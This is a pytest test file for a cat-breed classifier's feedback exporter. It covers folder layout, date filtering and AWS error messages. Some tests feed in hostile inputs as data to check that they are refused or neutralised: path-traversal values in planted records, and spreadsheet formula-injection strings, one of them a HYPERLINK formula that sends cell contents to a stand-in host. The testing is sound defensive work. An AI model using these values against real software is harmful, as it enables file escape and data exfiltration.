"""catbreed_local/feedback_export.py: kept photos into <out>/<Breed>/ with a manifest and a
NOT_REVIEWED marker, in the layout the training reader takes as one more root, where only the
breed folders count; non-breed labels stay out of training's reach; --since filters by day.
The store is not trusted: a planted record cannot write outside OUT nor read outside the store,
a label cannot start a spreadsheet formula, and a client's claim that is not the model's own
answer is flagged. The command says what went wrong in one line."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from catbreed.feedback import FeedbackDesk, FeedbackRequest
from catbreed.feedback_store import FolderStore
from catbreed.service import Service
from catbreed_local.feedback_export import MARKER, export, main

ANSWER = {
    "model": {"name": "catbreed-test", "version": "1.0"},
    "predictions": [{"breed": "British Shorthair", "probability": 0.7}],
}


@pytest.fixture()
def store(tmp_path: Path) -> FolderStore:
    return FolderStore(tmp_path / "feedback-local")


@pytest.fixture()
def keep(store: FolderStore, classifier: Any, cat_jpeg: bytes):
    """keep(verdict, label=None, text=None, when=2 Nov 2026 noon, answer=ANSWER): kept feedback's id."""
    service = Service(classifier)

    def keep(verdict: str, label: str | None = None, text: str | None = None, when: datetime | None = None, answer=ANSWER) -> str:
        desk = FeedbackDesk(store, clock=lambda: when or datetime(2026, 11, 2, 12, tzinfo=UTC))
        request = FeedbackRequest(answer, verdict, label, text, True, "x")
        return desk.keep(request, cat_jpeg, lambda photo: service.predict_bytes(photo).body)[0]["id"]

    return keep


def manifest(out: Path) -> dict[str, dict]:
    return {row["id"]: row for row in csv.DictReader((out / "manifest.csv").open(encoding="utf-8"))}


def test_each_photo_goes_to_its_breed_and_non_breeds_stay_out_of_training(store: FolderStore, tmp_path: Path, keep) -> None:
    korat = keep("wrong", "Korat")
    right = keep("right")
    mix = keep("wrong", "mix")
    other = keep("wrong", "other", "Thai")
    out = tmp_path / "feedback"
    assert export(store, out).photos == 4
    assert (out / "Korat" / f"{korat}.jpg").read_bytes() == (store.root / korat / "photo.jpg").read_bytes()
    assert (out / "British_Shorthair" / f"{right}.jpg").is_file()
    assert (out / "_not_a_breed" / "mix" / f"{mix}.jpg").is_file()
    assert (out / "_not_a_breed" / "other" / f"{other}.jpg").is_file()
    assert "NOT reviewed" in (out / MARKER).read_text()
    rows = manifest(out)
    assert rows[korat]["file"] == f"Korat/{korat}.jpg" and rows[korat]["breed"] == "Korat"
    assert (rows[korat]["verdict"], rows[korat]["label"], rows[korat]["answered"]) == ("wrong", "Korat", "British Shorthair")
    assert (rows[other]["breed"], rows[other]["label_text"]) == ("", "Thai")
    pytest.importorskip("sklearn")  # training's reader, with the dev stack
    from training.data import read_folder_root

    samples = read_folder_root(out)  # what `make train FEEDBACK=out` reads
    assert sorted((s.breed, s.source, s.path.stem) for s in samples) == [
        ("British Shorthair", "feedback", right),
        ("Korat", "feedback", korat),
    ]


def test_a_claim_that_is_not_the_models_own_answer_is_flagged(store: FolderStore, tmp_path: Path, keep, classifier: Any) -> None:
    claimed = keep("right")  # the client says British Shorthair 0.7, whatever the model said
    kept = (store.root / claimed / "photo.jpg").read_bytes()
    truth = Service(classifier).predict_bytes(kept).body
    assert truth["predictions"][0]["breed"] != "British Shorthair"
    honest = keep("right", answer={"model": truth["model"], "predictions": truth["predictions"]})
    done = export(store, tmp_path / "out")
    rows = manifest(tmp_path / "out")
    assert (rows[claimed]["agrees"], rows[honest]["agrees"]) == ("no", "yes")
    assert rows[claimed]["server_answered"] == truth["predictions"][0]["breed"]
    assert float(rows[claimed]["server_probability"]) == truth["predictions"][0]["probability"]
    assert done.disagreeing == 1
    assert "agrees" in (tmp_path / "out" / MARKER).read_text()


def test_since_keeps_only_the_newer_days_from_midnight_on(store: FolderStore, tmp_path: Path, keep) -> None:
    keep("wrong", "Korat", when=datetime(2026, 11, 9, 23, 59, 59, tzinfo=UTC))
    at_midnight = keep("wrong", "Korat", when=datetime(2026, 11, 10, tzinfo=UTC))
    newer = keep("wrong", "Korat", when=datetime(2026, 11, 20, tzinfo=UTC))
    assert main([str(tmp_path / "out"), "--from", str(store.root), "--since", "2026-11-10"]) == 0
    assert sorted(p.stem for p in (tmp_path / "out" / "Korat").iterdir()) == sorted([at_midnight, newer])


def test_a_withdrawn_photo_is_not_exported_and_a_used_folder_is_refused(
    store: FolderStore, tmp_path: Path, cat_jpeg: bytes, classifier: Any
) -> None:
    desk = FeedbackDesk(store)
    receipt, _ = desk.keep(FeedbackRequest(ANSWER, "wrong", "Korat", None, True, "x"), cat_jpeg, Service(classifier)._answer_for)
    desk.withdraw(receipt["id"], receipt["token"])
    assert export(store, tmp_path / "out").photos == 0
    with pytest.raises(SystemExit, match="not empty"):
        export(store, tmp_path / "out")


def plant(store: FolderStore, feedback_id: str, **changes: Any) -> Path:
    """Rewrite a kept record as a compromised store would; its path."""
    path = store.root / feedback_id / "record.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))
    return path


@pytest.mark.parametrize(
    "changes",
    [
        {"label": "../../escaped"},
        {"label": "/tmp/escaped"},
        {"verdict": "right", "label": None, "answer": {**ANSWER, "predictions": [{"breed": "../../escaped", "probability": 1}]}},
        {"photo": "../../secret.jpg"},
        {"photo": f"{'0' * 32}/photo.jpg"},  # another record's photo
        {"id": "../../escaped"},
        {"label": "other", "label_text": "x" * 500},
        {"time": "yesterday"},
    ],
)
def test_a_planted_record_is_left_out_and_nothing_leaves_out_or_the_store(
    store: FolderStore, tmp_path: Path, keep, changes: dict, capsys: pytest.CaptureFixture
) -> None:
    good, bad = keep("wrong", "Korat"), keep("wrong", "Korat")
    plant(store, bad, **changes)
    (tmp_path / "secret.jpg").write_bytes(b"outside the store")
    other = store.root / ("0" * 32) / "photo.jpg"
    other.parent.mkdir()
    other.write_bytes(b"a photo without a record")
    out = tmp_path / "a" / "b" / "out"  # ../../ of a breed folder is still under tmp_path
    out.parent.mkdir(parents=True)
    before = sorted(tmp_path.rglob("*"))
    assert main([str(out), "--from", str(store.root)]) == 0
    written = sorted(set(tmp_path.rglob("*")) - set(before))
    assert all(path.is_relative_to(out) for path in written), written
    assert sorted(manifest(out)) == [good]
    assert not (out / "Korat" / f"{bad}.jpg").exists()
    assert b"outside the store" not in b"".join(p.read_bytes() for p in out.rglob("*") if p.is_file())
    assert f"left out {bad}/record.json" in capsys.readouterr().err


def test_a_record_whose_id_is_not_its_folders_is_left_out(store: FolderStore, tmp_path: Path, keep) -> None:
    first, second = keep("wrong", "Korat"), keep("wrong", "Korat")
    plant(store, second, id=first, photo=f"{first}/photo.jpg")  # a copy of another record under a new name
    assert export(store, tmp_path / "out").refused == [f"{second}/record.json: its id is not its folder's"]


@pytest.mark.parametrize("words", ['=HYPERLINK("http://e.x/?"&A1,"see")', "+1+2", "-2+3", "@SUM(A1)"])
def test_manifest_cells_never_start_a_formula(store: FolderStore, tmp_path: Path, keep, words: str) -> None:
    feedback_id = keep("wrong", "other", words)
    export(store, tmp_path / "out")
    assert manifest(tmp_path / "out")[feedback_id]["label_text"] == "'" + words
    plain = keep("wrong", "other", "Thai")
    export(store, tmp_path / "out2")
    assert manifest(tmp_path / "out2")[plain]["label_text"] == "Thai"


def one_line_error(capsys: pytest.CaptureFixture, argv: list[str]) -> str:
    """main's stderr for argv, which must fail with one line and no traceback."""
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    return err


def test_a_missing_folder_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    err = one_line_error(capsys, [str(tmp_path / "out"), "--from", str(tmp_path / "nonexistent")])
    assert "no feedback folder" in err and not (tmp_path / "out").exists()


@pytest.fixture()
def no_aws(monkeypatch: pytest.MonkeyPatch) -> None:
    """No region, no credentials, nothing to find them in; the instance metadata is never asked."""
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_PROFILE", "AWS_DEFAULT_REGION",
                 "AWS_REGION", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI",
                 "AWS_WEB_IDENTITY_TOKEN_FILE", "CATBREED_S3_ENDPOINT"):  # fmt: skip
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_CONFIG_FILE", "/dev/null")
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    import boto3

    monkeypatch.setattr(boto3, "DEFAULT_SESSION", None)  # an earlier test's session keeps the credentials it found


def test_a_stack_without_a_region_says_so_in_one_line(tmp_path: Path, no_aws: None, capsys: pytest.CaptureFixture) -> None:
    err = one_line_error(capsys, [str(tmp_path / "out"), "--stack", "catbreed"])
    assert "no AWS region: pass --region" in err


def test_a_stack_without_credentials_says_so_in_one_line(tmp_path: Path, no_aws: None, capsys: pytest.CaptureFixture) -> None:
    err = one_line_error(capsys, [str(tmp_path / "out"), "--stack", "catbreed", "--region", "eu-west-1"])
    assert "no AWS credentials" in err
